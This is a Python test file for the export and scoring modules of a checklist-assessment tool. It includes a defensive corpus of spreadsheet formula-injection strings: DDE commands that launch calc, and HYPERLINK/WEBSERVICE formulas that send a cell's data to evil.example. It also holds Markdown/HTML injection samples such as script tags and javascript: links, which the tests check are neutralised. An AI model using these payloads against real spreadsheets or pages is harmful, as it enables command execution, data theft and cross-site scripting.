"""Results for programs and files: whole outputs, the same numbers in each, nothing that runs."""

import csv
import html
import io
import json
import os
import re
import string
from collections.abc import Iterator
from datetime import UTC, date, datetime
from fractions import Fraction
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import example as case
from hypothesis import given, settings
from hypothesis import strategies as st
from making import IN_WINDOW, SIZES, assessment, checklist, histories
from markdown_it import MarkdownIt

from tipcheck.assessment import Assessment
from tipcheck.documents.scores import (
    CAVEAT,
    checklist_document,
    findings_from,
    item_document,
    log_document,
    noun_document,
    score_document,
)
from tipcheck.errors import Problem
from tipcheck.exports import FORMATS
from tipcheck.exports.markdown import escaped
from tipcheck.exports.streams import STREAMS
from tipcheck.ledger import Lens, history
from tipcheck.model import Checklist, Source
from tipcheck.said import Said
from tipcheck.score import Range, Score, Tally, score
from tipcheck.sheets.defusing import defused
from tipcheck.sheets.problems import problems_result
from tipcheck.sheets.scores import score_sheet
from tipcheck.sheets.sheet import Column, Line, Page, Result, Sheet
from tipcheck.text import fold, visible
from tipcheck.words import ENGLISH, Words

SHEET: Final = Sheet(
    "A * sheet",
    (
        Column("rank", "count"),
        Column("id", "id"),
        Column("status", "status"),
        Column("range", "range"),
        Column("coverage", "share"),
        Column("checks", "part"),
        Column("at", "time"),
        Column("note"),
    ),
    (
        (
            1,
            "law",
            "not-met",
            Range(Fraction(1, 4), Fraction(1, 3), Fraction(1, 2)),
            Fraction(1, 2),
            (1, 2),
            datetime(2024, 7, 1, 10, tzinfo=UTC),
            'Says "no",\nat |length|.',
        ),
        (2, "b9", None, None, None, None, None, None),
    ),
    ("Before <all>.",),
    ("After all.",),
)
PAGE: Final = Page(
    (
        Line("A *title*", style="title"),
        Line("A paragraph."),
        Line("a point", 1),
        Line("under\nit", 2, "dim"),
    )
)
RESULT: Final = Result((PAGE, SHEET), SHEET, lambda: {"id": "law", "note": "“ñ”\t|", "low": None})

WHOLE: Final[dict[str, str]] = {
    "csv": (
        "rank,id,status,low,high,coverage,checks_looked_at,checks_applicable,at,note\n"
        "1,law,not-met,0.25,0.3333333333333333,0.5,1,2,2024-07-01T10:00:00Z,"
        '"Says ""no"",\nat |length|."\n'
        "2,b9,,,,,,,,\n"
    ),
    "tsv": (
        "rank\tid\tstatus\tlow\thigh\tcoverage\tchecks_looked_at\tchecks_applicable\tat\tnote\n"
        "1\tlaw\tnot-met\t0.25\t0.3333333333333333\t0.5\t1\t2\t2024-07-01T10:00:00Z\t"
        'Says "no", at |length|.\n'
        "2\tb9\t\t\t\t\t\t\t\t\n"
    ),
    "jsonl": (
        '{"rank": 1, "id": "law", "status": "not-met", "low": 0.25, "high": 0.3333333333333333,'
        ' "coverage": 0.5, "checks_looked_at": 1, "checks_applicable": 2,'
        ' "at": "2024-07-01T10:00:00Z", "note": "Says \\"no\\",\\nat |length|."}\n'
        '{"rank": 2, "id": "b9", "status": null, "low": null, "high": null, "coverage": null,'
        ' "checks_looked_at": null, "checks_applicable": null, "at": null, "note": null}\n'
    ),
    "json": '{\n  "id": "law",\n  "note": "“ñ”\\t|",\n  "low": null\n}\n',
}
"""The whole text of the result in each format whose marks are the same in every table."""

MARKDOWN: Final = r"""## A \*title\*

A paragraph\.

- a point
  - under it

## A \* sheet

Before &lt;all&gt;\.

| \# | id | found | range | coverage | checks | when \(UTC\) | note |
| --- | --- | --- | --- | --- | --- | --- | --- |
"""


def note_of(text: str) -> Result:
    """Give a result with one text in it, wherever a text can be."""
    sheet = Sheet(text, (Column("id", "id"), Column("note")), ((text, text),), (text,), (text,))
    page = Page((Line(text, style="title"), Line(text), Line(text, 1)))
    return Result((page, sheet), sheet, sheet.as_dicts)


def csv_rows(text: str) -> list[list[str]]:
    """Read CSV back."""
    return list(csv.reader(io.StringIO(text, newline="")))


def tsv_rows(text: str) -> list[list[str]]:
    """Read tab-separated values back."""
    return [line.split("\t") for line in text.removesuffix("\n").split("\n")]


# The formats


def test_each_format_is_named_after_the_ending_of_its_files() -> None:
    """Five formats, in the order in which people are told of them."""
    assert list(FORMATS) == ["csv", "json", "jsonl", "md", "tsv"]


@pytest.mark.parametrize("name", FORMATS)
def test_each_format_takes_every_result(name: str) -> None:
    """Text, numbers, nothing, pages and sheets become a text whose last line has an end."""
    text = FORMATS[name](RESULT, ENGLISH)
    assert "law" in text
    assert text.endswith("\n")
    assert not text.endswith("\n\n")


@pytest.mark.parametrize("name", WHOLE)
def test_a_result_is_written_whole(name: str) -> None:
    """The whole text of each format for programs."""
    assert FORMATS[name](RESULT, ENGLISH) == WHOLE[name]


@pytest.mark.parametrize("name", WHOLE)
def test_formats_for_programs_know_no_language(name: str) -> None:
    """Keys, headings and statuses stay English whatever is spoken."""
    assert FORMATS[name](RESULT, Words("es")) == WHOLE[name]


@pytest.mark.parametrize("name", STREAMS)
def test_a_table_written_row_by_row_is_the_whole_one(name: str) -> None:
    """Line by line the same text, a lone return within a cell included."""
    rows = (*SHEET.rows, (3, "a\rb", None, None, None, None, None, "=1"))
    sheet = SHEET._replace(rows=rows)
    lines = list(STREAMS[name](sheet.columns, sheet.rows))
    assert "".join(lines[:-1]) == WHOLE[name]
    whole = FORMATS[name](Result((), sheet, dict), ENGLISH)
    assert csv_rows(lines[-1]) == csv_rows(whole)[-1:]


def test_markdown_is_what_people_see() -> None:
    """Titles, paragraphs, lists and tables, in the language at hand."""
    text = FORMATS["md"](RESULT, ENGLISH)
    assert text.startswith(MARKDOWN)
    rendered = MarkdownIt().enable("table").render(text)
    assert tagged(rendered) == [
        ("h2", "A *title*"),
        ("p", "A paragraph."),
        ("li", "a point"),
        ("li", "under it"),
        ("h2", "A * sheet"),
        ("p", "Before <all>."),
        *(("th", heading) for heading in ("#", "id", "found", "range", "coverage", "checks")),
        *(("th", heading) for heading in ("when (UTC)", "note")),
        *(("td", cell) for cell in ("1", "law", "✗ not met", "25%-34%", "50%", "1 of 2")),
        *(("td", cell) for cell in ("2024-07-01 10:00", 'Says "no", at |length|.')),
        *(("td", cell) for cell in ("2", "b9", *[""] * 6)),
        ("p", "After all."),
    ]
    spanish = tagged(MarkdownIt().enable("table").render(FORMATS["md"](RESULT, Words("es"))))
    assert ("td", "✗ no cumplida") in spanish


def tagged(rendered: str) -> list[tuple[str, str]]:
    """Give the tags of rendered HTML, each with its text."""
    found = re.findall(r"<(h2|p|li|th|td)>([^<\n]*)", rendered)
    return [(tag, html.unescape(text)) for tag, text in found]


def test_pages_have_no_table_of_their_own() -> None:
    """Of pages and sheets, CSV and tab-separated values hold the one table alone."""
    result = Result((PAGE,), SHEET.only(2), lambda: None)
    assert FORMATS["csv"](result, ENGLISH) == WHOLE["csv"].splitlines()[0] + "\n2,b9,,,,,,,,\n"
    assert csv_rows(FORMATS["csv"](result, ENGLISH)) == tsv_rows(FORMATS["tsv"](result, ENGLISH))


def test_json_refuses_what_no_number_is() -> None:
    """A figure that is not a number is a mistake of the program and never written."""
    result = RESULT._replace(document=lambda: {"low": float("nan")})
    with pytest.raises(ValueError, match="Out of range float values"):
        FORMATS["json"](result, ENGLISH)


@pytest.mark.parametrize("name", FORMATS)
def test_the_name_of_a_file_can_always_be_written(name: str) -> None:
    """A name that is no UTF-8 stands in a list of problems without breaking it."""
    problem = Problem(Path(os.fsdecode(b"\xff.toml")), 1, "", Said("is wrong"))
    text = FORMATS[name](problems_result([problem], 1, ENGLISH), ENGLISH)
    assert b".toml" in text.replace("\\.", ".").encode()


# What a spreadsheet could run

STARTS: Final = (
    *("=1+1", "+1", "-1", "@SUM(1)", "%0A", "|cmd"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", "\uff051", "\uff5ccmd", "\u22121"),
    *("'", "'=1", "''=1", "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://evil.example?x="&A1,"see")', '=WEBSERVICE("http://evil.example")'),
    *("+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", '=DDE("cmd";"/C calc";"1")'),
    *("\t", "\t=1", "\n", "\n=1", "\r", "\r=1", "\r\n=1", "\tfoo", "\nfoo", "\rfoo"),
    *("\x00=1", "\x00\x00=1", "\ufeff=1", "\ufeff\ufeff+1", "\u200b=1", "\u200c=1", "\u200d-1"),
    *("\u2060=1", " =1", "   +1", "\u00a0=1", "\u2003@A1", "\u3000=1", "\u202f-1", "\u2028=1"),
    *("\x0b=1", "\x0c=1", "\x1f=1", "\x85=1", "\ufeff =1", "\x00\ufeff \u200b=1", "\ufeff\t=1"),
    *(" '", "\x00'=1", "\ufeff\uff1d1", "\u200b\u22121", "-", "=", "@", "%", "|", "+", "--", "=="),
)
"""Texts that a spreadsheet could take for a formula, or whose apostrophe it would take away."""

HARMLESS: Final = (
    "",
    "law",
    "1",
    "a=b",
    "PER-2023/law",
    "x\n=1",
    "\u2019=1",
    "\u2013 5",
    "(=1)",
    " a",
)
"""Texts that no spreadsheet runs."""


def test_the_corpus_is_large() -> None:
    """No text stands twice among those that could run, and there are many."""
    assert len(set(STARTS)) == len(STARTS) >= 60


@pytest.mark.parametrize("text", STARTS)
def test_what_could_run_gets_one_apostrophe_in_csv(text: str) -> None:
    """The cell that comes back is an apostrophe and the text: taking it away undoes it exactly."""
    rows = csv_rows(FORMATS["csv"](note_of(text), ENGLISH))
    assert rows == [["id", "note"], [f"'{text}", f"'{text}"]]


@pytest.mark.parametrize("text", STARTS)
def test_what_could_run_gets_one_apostrophe_among_tabs(text: str) -> None:
    """White space is folded; what remains begins with one apostrophe and then the text."""
    header, row = tsv_rows(FORMATS["tsv"](note_of(text), ENGLISH))
    assert header == ["id", "note"]
    assert row[0] == row[1]
    assert row[0][0] == "'"
    assert row[0][1:].lstrip(" ") == visible(fold(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_run_is_left_as_it_is(text: str) -> None:
    """No apostrophe where none is needed."""
    assert defused(text) == text
    assert csv_rows(FORMATS["csv"](note_of(text), ENGLISH))[1] == [text, text]


@pytest.mark.parametrize("number", [-1, 0, -0.5, 1.5, None])
def test_numbers_are_left_as_they_are(number: float | None) -> None:
    """A number is no formula, below zero or not."""
    assert defused(number) == number


def test_what_begins_behind_something_unseen_begins_there() -> None:
    """NUL, a byte order mark or zero width before a tab or a new line hide it from nobody."""
    texts = [f"{unseen}{mark}foo" for unseen in "\x00\ufeff\u200b" for mark in "\t\n\r"]
    assert [text for text in texts if defused(text) != f"'{text}"] == []


def test_a_formula_behind_any_zero_width_sign_gets_an_apostrophe() -> None:
    """The invisible operators hide a mark as well as the zero-width space does."""
    texts = [f"{unseen}=1+1" for unseen in "\u200b\u2060\u2061\u2062\u2063\u2064\ufeff"]
    assert [text for text in texts if defused(text) != f"'{text}"] == []


@given(st.text())
@case("a\r=1")
@case("a\nb")
@settings(deadline=None)
def test_csv_gives_every_text_back(text: str) -> None:
    """A text is read back as it was, or with the one apostrophe that keeps it from running."""
    rows = csv_rows(FORMATS["csv"](note_of(text), ENGLISH))
    assert rows[0] == ["id", "note"]
    assert len(rows) == 2
    assert rows[1] in ([text, text], [f"'{text}", f"'{text}"])


@given(st.text())
@settings(deadline=None)
def test_an_apostrophe_is_undone_by_taking_one_away(text: str) -> None:
    """Whoever reads takes one leading apostrophe away, and no text is ever read as another."""
    shown = defused(text)
    assert isinstance(shown, str)
    assert shown.removeprefix("'") == text


@given(st.text(), st.text())
@settings(deadline=None)
def test_every_line_has_the_same_tabs(one: str, other: str) -> None:
    """No text can bring a tab or a line of its own into tab-separated values."""
    sheet = Sheet("", (Column("id", "id"), Column("note")), ((one, other), (other, one)))
    text = FORMATS["tsv"](Result((sheet,), sheet, sheet.as_dicts), ENGLISH)
    assert [line.count("\t") for line in text.splitlines()] == [1, 1, 1]
    assert text.endswith("\n")


@given(st.text())
@settings(deadline=None)
def test_json_gives_every_character_back(text: str) -> None:
    """JSON is the lossless format."""
    written = FORMATS["json"](note_of(text), ENGLISH)
    assert json.loads(written) == [{"id": text, "note": text}]


# What Markdown could mean

MEANINGS: Final = (
    *("*bold*", "_bold_", "**b**", "`code`", "~~gone~~", "# title", "## title", "> quote"),
    *("- point", "+ point", "* point", "1. point", "1) point", "---", "***", "===", "a\n==="),
    *("[a](http://evil.example)", "![a](http://evil.example/x.png)", "<http://evil.example>"),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<!-- gone -->",
        "&lt;",
        "&amp;",
    ),
    *("[a][b]", "[a]: http://evil.example", "a | b", "a \\| b", "\\", "\\*a*", "a\\", "||"),
    *("| --- |", "a\n\nb", "a  \nb", "    code", "```\ncode\n```", "~~~", "[ ] todo", "&#124;"),
    *("\\*b\\*", "\\&", "\\<b>", "\\[a](b)", "\\\\", "a\\`b`"),
    *("\x1b[31m", "\u202egnp", "a\tb", "javascript:alert(1)", "[x](javascript:alert(1))"),
)
"""Texts that mean more in Markdown than what they say."""


def rendered_words(text: str) -> str:
    """Give what a reader of Markdown sees of a line, which must hold no tag of its own."""
    rendered = MarkdownIt().enable(["table", "strikethrough"]).render(f"{text}\n")
    match = re.fullmatch(r"<p>([^<>]*)</p>\n|", rendered)
    assert match
    return html.unescape(match[1] or "")


@pytest.mark.parametrize("text", MEANINGS)
def test_no_mark_has_a_meaning_in_markdown(text: str) -> None:
    """No link, no image, no HTML, no list: a reader of Markdown sees the text as it stands."""
    assert rendered_words(escaped(text)) == visible(fold(text))


@given(st.text(st.one_of(st.characters(), st.sampled_from(string.punctuation + " \n"))))
@settings(deadline=None)
def test_a_reader_of_markdown_sees_every_text_as_it_stands(text: str) -> None:
    """Whatever a text holds, it is one plain paragraph."""
    assert rendered_words(escaped(text)) == visible(fold(text))


@given(st.text(st.one_of(st.characters(), st.sampled_from("|\\`\n*<[]"))))
@settings(deadline=None)
def test_no_text_adds_a_cell_to_a_markdown_table(text: str) -> None:
    """Of the pipes without a backslash there are those of the table alone."""
    table = [line for line in markdown_lines(text) if line.startswith("|")]
    assert len(table) == 3
    bare = [re.findall(r"(?<!\\)(?:\\\\)*\|", line) for line in table]
    assert [len(pipes) for pipes in bare] == [3, 3, 3]


def markdown_lines(text: str) -> Iterator[str]:
    """Give the lines of a result that holds a text wherever a text can be."""
    yield from FORMATS["md"](note_of(text), ENGLISH).split("\n")


@given(st.text())
@settings(deadline=None)
def test_no_text_adds_a_line_to_markdown(text: str) -> None:
    """A result has as many lines as it has with a plain word."""
    assert len(list(markdown_lines(text))) == len(list(markdown_lines("word")))


def test_every_punctuation_mark_is_escaped_in_markdown() -> None:
    """Dialects give a meaning to `$`, `:`, `@`, `=` and `^` too: none is left bare."""
    entities = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
    wanted = {mark: entities.get(mark, f"\\{mark}") for mark in string.punctuation}
    assert [mark for mark in wanted if escaped(mark) != wanted[mark]] == []


# The documents

LIST: Final = checklist(0, 2)
FINDINGS: Final = (
    {"item": "i1", "status": "met", "evidence": [{**IN_WINDOW, "quote": "Done.", "to": "2023"}]},
    {"item": "i2/c1", "status": "unknown", "withheld": True},
    {"item": "b9", "status": "not-met"},
    {"item": "roads", "status": "not-met"},
)


def finding_document(item: str, status: str, minute: int, **more: Any) -> dict[str, Any]:
    """Give a finding as JSON holds it: the keys of its file."""
    prints = assessment(LIST).targets()
    return {
        "item": item,
        "status": status,
        "at": f"2024-07-01T10:0{minute}:00Z",
        "by": "ana",
        "fingerprint": prints.get(item, "0" * 12),
        "withheld": False,
        "carried": None,
        "via": None,
        "note": None,
        "evidence": [],
        **more,
    }


MET: Final = finding_document(
    "i1",
    "met",
    0,
    evidence=[
        {
            "source": "https://example.org",
            "title": None,
            "kind": "report",
            "from": "2023-05-12",
            "to": "2023",
            "published": None,
            "quote": "Done.",
        }
    ],
)
WITHHELD: Final = finding_document("i2/c1", "unknown", 1, withheld=True)


def figures(
    low: tuple[float, str], high: tuple[float, str], coverage: tuple[float, str]
) -> dict[str, Any]:
    """Give three figures as JSON holds them, each as a number and as a fraction."""
    ends = {"low": low, "high": high, "coverage": coverage}
    numbers = {end: number for end, (number, _) in ends.items()}
    return {**numbers, "exact": {end: exact for end, (_, exact) in ends.items()}}


NOTHING, HALF, ALL = (0.0, "0"), (0.5, "1/2"), (1.0, "1")
NO_FIGURES: Final = {"low": None, "high": None, "coverage": None, "exact": None}


def counted(name: str, sizes: tuple[int, int, int, int], word: str | None, **counts: int) -> Any:
    """Give the counts of a tally: checks, those looked at, items, those touched; by status."""
    statuses = ("met", "partial", "not-met", "regressed", "unknown", "not-applicable", "open")
    causes = ("not-assessed", "stale", "carried", "claimed", "outside")
    return {
        "id": name,
        "counts": {status: counts.get(status, 0) for status in statuses},
        "open_by_cause": {**dict.fromkeys(causes, 0), "not-assessed": counts.get("open", 0)},
        "checks_applicable": sizes[0],
        "checks_looked_at": sizes[1],
        "items_looked_at": sizes[3],
        "items_applicable": sizes[2],
        "word": word,
    }


def small_score() -> Score:
    """Score a list of three checks: one met, one withheld, one not assessed."""
    return score(assessment(LIST, FINDINGS), presume=True)


def untouched(name: str, word: str | None) -> dict[str, Any]:
    """Give the tally of what no check maps to."""
    return {**NO_FIGURES, **counted(name, (0, 0, 0, 0), word)}


def test_a_score_is_a_document_whole() -> None:
    """Every key of a small score, with nothing asked for beside it."""
    third = figures(HALF, ALL, (0.75, "3/4"))
    of_all = counted("overall", (3, 2, 2, 2), None, met=1, unknown=1, open=1)
    open_checks = {**third, **of_all}
    b1 = {**open_checks, "id": "b1", "word": "open"}
    item_1 = {**figures(ALL, ALL, ALL), **counted("i1", (1, 1, 1, 1), None, met=1)}
    item_2 = {
        **figures(NOTHING, ALL, HALF),
        **counted("i2", (2, 1, 1, 1), None, unknown=1, open=1),
    }
    assert score_document(small_score(), explain=False) == {
        "checklist": "XAA-2023",
        "country": "Testland",
        "year": 2023,
        "tier": "2",
        "extent": "whole",
        "reviewed": True,
        "findings_from": "ledger.toml",
        "note": CAVEAT,
        "as_of": None,
        "by_assessor": None,
        "any_date": False,
        **{key: value for key, value in open_checks.items() if key != "id"},
        "not_applicable_share": 0.0,
        "presumed": third,
        "pillars": [
            {**open_checks, "id": "prosecution"},
            *(untouched(name, None) for name in ("protection", "prevention", "partnership")),
        ],
        "standards": [
            *(untouched(name, "none") for name in ("a1", "a2", "a3")),
            {**open_checks, "id": "a4"},
        ],
        "criteria": [b1, *(untouched(f"b{n}", "none") for n in range(2, 13))],
        "factors": [untouched(name, "none") for name in ("d", "e", "f")],
        "items": [item_1, item_2],
        "beyond": [finding_document("b9", "not-met", 2)],
        "strays": [finding_document("roads", "not-met", 3)],
    }


def test_presumed_figures_are_those_in_which_withheld_data_count_as_failure() -> None:
    """They stand beside the range, for the checks of which the law presumes it."""
    listed = checklist(0).model_dump(mode="json", by_alias=True)
    listed["items"][0]["checks"] = [{"id": "c1", "text": "Officials", "presumable": True}]
    withheld = {"item": "i1/c1", "status": "unknown", "withheld": True}
    found = assessment(Checklist.model_validate(listed), [withheld])
    document = score_document(score(found, presume=True), explain=False)
    assert document["presumed"] == figures(NOTHING, NOTHING, ALL)
    assert (document["low"], document["high"]) == (0.0, 1.0)
    assert score_document(score(found), explain=False)["presumed"] is None


def test_a_score_says_through_which_lens_it_looks() -> None:
    """Day, assessor and leniency are in the document."""
    lens = Lens(as_of=date(2024, 7, 1), by="ben", any_date=True)
    document = score_document(score(assessment(LIST, FINDINGS), lens), explain=False)
    assert (document["as_of"], document["by_assessor"], document["any_date"]) == (
        *("2024-07-01", "ben"),
        True,
    )


def test_nothing_to_score_is_null_and_not_zero() -> None:
    """Where no check is applicable there is no figure."""
    none = ({"item": item, "status": "not-applicable"} for item in ("i1", "i2"))
    document = score_document(score(assessment(LIST, none)), explain=False)
    assert {key: document[key] for key in NO_FIGURES} == NO_FIGURES
    assert document["not_applicable_share"] == 1.0


def test_an_explained_score_has_every_contribution() -> None:
    """What each check counts for, by name, without the finding that is given elsewhere."""
    document = score_document(small_score(), explain=True)
    b1 = {"criteria": ["b1"], "finding": None}
    met = {"target": "i1", "status": "met", "open": None, **figures(ALL, ALL, ALL)}
    unknown = {"target": "i2/c1", "status": "unknown", "open": None, **figures(NOTHING, ALL, ALL)}
    neither = {"target": "i2/c2", "status": None, "open": "not-assessed"}
    assert document["contributions"] == [
        met | b1,
        unknown | b1,
        neither | b1 | figures(NOTHING, ALL, NOTHING),
    ]


def test_an_explained_score_has_the_terms_of_every_figure() -> None:
    """The mean of each item in each figure, as fractions."""
    terms = {
        "i1": {"low": "1", "high": "1", "coverage": "1"},
        "i2": {"low": "0", "high": "1", "coverage": "1/2"},
    }
    none: dict[str, Any] = {}
    document = score_document(score(assessment(LIST, FINDINGS)), explain=True)
    assert document["sums"] == {
        "overall": terms,
        "presumed": None,
        "pillars": {
            "prosecution": terms,
            **dict.fromkeys(("protection", "prevention", "partnership"), none),
        },
        "standards": {**dict.fromkeys(("a1", "a2", "a3"), none), "a4": terms},
        "criteria": {"b1": terms, **{f"b{n}": none for n in range(2, 13)}},
        "factors": dict.fromkeys(("d", "e", "f"), none),
        "items": {"i1": {"i1": terms["i1"]}, "i2": {"i2": terms["i2"]}},
    }


def test_an_item_that_is_called_like_a_pillar_hides_no_terms(example: Assessment) -> None:
    """In Peru's list of 2023 an item and a pillar are both called prosecution."""
    scored = score(example)
    pillar = next(each for each in scored.pillars if each.id == "prosecution")
    terms = {
        item: {end: str(getattr(term, end)) for end in ("low", "high", "coverage")}
        for item, term in pillar.terms.items()
    }
    assert list(terms) == ["penalties", "prosecution", "training", "data"]
    assert score_document(scored, explain=True)["sums"]["pillars"]["prosecution"] == terms


def test_an_item_is_a_document_with_each_of_its_checks() -> None:
    """What the file says of the item and its checks, what stands for each, and its figures."""
    of_file = {"text_es": None, "presumable": False, "criteria": ["b1"]}
    assert item_document(small_score(), "i2") == {
        "rank": 2,
        "title": "Item 2",
        "title_es": None,
        "text": "Do thing 2.",
        "text_es": None,
        "pillar": "prosecution",
        "criteria": ["b1"],
        "suggested": False,
        "checks": [
            {
                **of_file,
                **figures(NOTHING, ALL, ALL),
                "id": "c1",
                "text": "Thing 2.1 is done",
                "target": "i2/c1",
                "status": "unknown",
                "open": None,
                "finding": WITHHELD,
            },
            {
                **of_file,
                **figures(NOTHING, ALL, NOTHING),
                "id": "c2",
                "text": "Thing 2.2 is done",
                "target": "i2/c2",
                "status": None,
                "open": "not-assessed",
                "finding": None,
            },
        ],
        **figures(NOTHING, ALL, HALF),
        **counted("i2", (2, 1, 1, 1), None, unknown=1, open=1),
    }


def test_an_item_without_checks_is_a_document_with_itself_as_its_check() -> None:
    """What was found for the item stands in that one check."""
    assert item_document(small_score(), "i1")["checks"] == [
        {
            "id": "i1",
            "text": "Do thing 1.",
            "text_es": None,
            "presumable": False,
            "criteria": ["b1"],
            "target": "i1",
            "status": "met",
            "open": None,
            **figures(ALL, ALL, ALL),
            "finding": MET,
        }
    ]


def test_a_checklist_is_a_document_with_its_reference_and_items() -> None:
    """The keys of its file, its items in their order, and whose findings stand there."""
    scored = small_score()
    document = checklist_document(scored)
    items = document.pop("items")
    assert document == {
        "reference": "XAA-2023",
        "schema": 1,
        "country": "XAA",
        "name": "Testland",
        "year": 2023,
        "tier": "2",
        "extent": "whole",
        "wording": "verbatim",
        "reviewed": True,
        "source": None,
        "findings_from": "ledger.toml",
        "note": CAVEAT,
    }
    assert items == [item_document(scored, "i1"), item_document(scored, "i2")]


def test_a_log_is_a_document_with_what_stood_before_and_stands_since() -> None:
    """The keys of each finding, and the status before and after it."""
    findings: list[dict[str, Any]] = [
        {"item": "i1", "status": "not-met"},
        {"item": "i1", "status": "withdrawn", "fingerprint": None},
    ]
    entries = list(history(assessment(LIST, findings).findings))
    assert log_document(entries) == [
        {**finding_document("i1", "not-met", 0), "before": None, "stands": "not-met"},
        {
            **finding_document("i1", "withdrawn", 1, fingerprint=None),
            "before": "not-met",
            "stands": None,
        },
    ]


def test_a_noun_is_a_document_with_the_keys_of_its_file() -> None:
    """Dates are written as days."""
    source = Source(title="Report", retrieved=date(2026, 11, 23))
    assert noun_document(source) == {"title": "Report", "url": None, "retrieved": "2026-11-23"}


def test_a_document_says_whose_findings_it_holds(example: Assessment, peru: Assessment) -> None:
    """Those of the bundled example, of a file, or nobody's."""
    assert findings_from(example) == "bundled example"
    assert findings_from(peru) is None
    assert findings_from(assessment(LIST)) == "ledger.toml"
    rater = assessment(LIST)._replace(ledger_path=Path("assessments", "XAA-2023.ben.toml"))
    assert findings_from(rater) == "XAA-2023.ben.toml"


# The same numbers everywhere


def tallies(scored: Score) -> Iterator[Tally]:
    """Give every tally of a score in the order of the rows of its whole sheet."""
    yield scored.overall
    yield from (*scored.pillars, *scored.standards, *scored.criteria, *scored.factors)


def result_of(scored: Score) -> Result:
    """Give a score as the command that scores does."""
    sheet = score_sheet(scored, None, ENGLISH, whole=True)
    return Result((sheet,), sheet, lambda: score_document(scored, explain=False))


Numbers = list[tuple[str | float | None, ...]]
"""Of each tally: its name, both ends, its coverage, checks and items looked at and in all."""

ENDS: Final = ("low", "high", "coverage")
COUNTS: Final = ("checks_looked_at", "checks_applicable", "items_looked_at", "items_applicable")


def numbers_of_json(text: str) -> Numbers:
    """Read the figures of every tally from JSON."""
    document = json.loads(text)
    groups = ("pillars", "standards", "criteria", "factors")
    found = [{**document, "id": "overall"}, *(each for group in groups for each in document[group])]
    return [tuple(each[key] for key in ("id", *ENDS, *COUNTS)) for each in found]


def numbers_of_rows(rows: list[list[str]]) -> Numbers:
    """Read the figures of every tally from the rows of a table."""
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    return [
        (
            row["id"],
            *(float(row[end]) if row[end] else None for end in ENDS),
            *(int(row[count]) for count in COUNTS),
        )
        for row in records
    ]


def exact_numbers(scored: Score) -> Numbers:
    """Give the figures of every tally from the score itself."""
    return [
        (
            each.id,
            *(float(getattr(each.range, end)) if each.range else None for end in ENDS),
            *(each.looked, each.checks, each.touched, each.items),
        )
        for each in tallies(scored)
    ]


def same_everywhere(scored: Score) -> None:
    """Hold the figures of each format against those of the score."""
    result, expected = result_of(scored), exact_numbers(scored)
    assert numbers_of_json(FORMATS["json"](result, ENGLISH)) == expected
    assert numbers_of_rows(csv_rows(FORMATS["csv"](result, ENGLISH))) == expected
    assert numbers_of_rows(tsv_rows(FORMATS["tsv"](result, ENGLISH))) == expected


def test_the_same_numbers_come_back_from_every_format(example: Assessment) -> None:
    """One result feeds JSON, CSV and tab-separated values."""
    same_everywhere(score(example))


@given(SIZES.flatmap(lambda sizes: st.tuples(st.just(sizes), histories(sizes))))
@settings(deadline=None)
def test_whatever_was_found_the_same_numbers_come_back(
    drawn: tuple[list[int], list[dict[str, Any]]],
) -> None:
    """For every ledger, the figures of each format are those of the score."""
    sizes, findings = drawn
    same_everywhere(score(assessment(checklist(*sizes), findings)))


def test_the_numbers_of_a_document_are_its_exact_fractions(example: Assessment) -> None:
    """Each number is the fraction that stands beside it."""
    document = score_document(score(example), explain=True)
    exacts = [tree for tree in every_dict(document) if tree.get("exact")]
    assert len(exacts) > 50
    for tree in exacts:
        for end, exact in tree["exact"].items():
            assert tree[end] == float(Fraction(exact))


def every_dict(tree: Any) -> Iterator[dict[str, Any]]:
    """Give every dict in a tree of dicts and lists."""
    if isinstance(tree, dict):
        yield tree
        tree = list(tree.values())
    if isinstance(tree, list):
        for each in tree:
            yield from every_dict(each)


def test_the_counts_of_a_document_come_to_its_checks(example: Assessment) -> None:
    """Checks by status, with the open ones, are the applicable checks and those that are not."""
    away = {"status": "not-applicable", "note": "There are none."}
    findings = (*example.findings, example.findings[2].model_copy(update=away))
    assert example.ledger
    ledger = example.ledger.model_copy(update={"findings": findings})
    document = score_document(score(example._replace(ledger=ledger)), explain=False)
    counted_trees = [tree for tree in every_dict(document) if "counts" in tree]
    assert len(counted_trees) == 1 + 4 + 4 + 12 + 3 + 11
    for tree in counted_trees:
        counts, causes = tree["counts"], tree["open_by_cause"]
        assert sum(counts.values()) == tree["checks_applicable"] + counts["not-applicable"]
        assert sum(causes.values()) == counts["open"]
        assert tree["checks_looked_at"] == tree["checks_applicable"] - counts["open"]
    assert sum(document["counts"].values()) == 41
    assert document["counts"]["not-applicable"] == 1
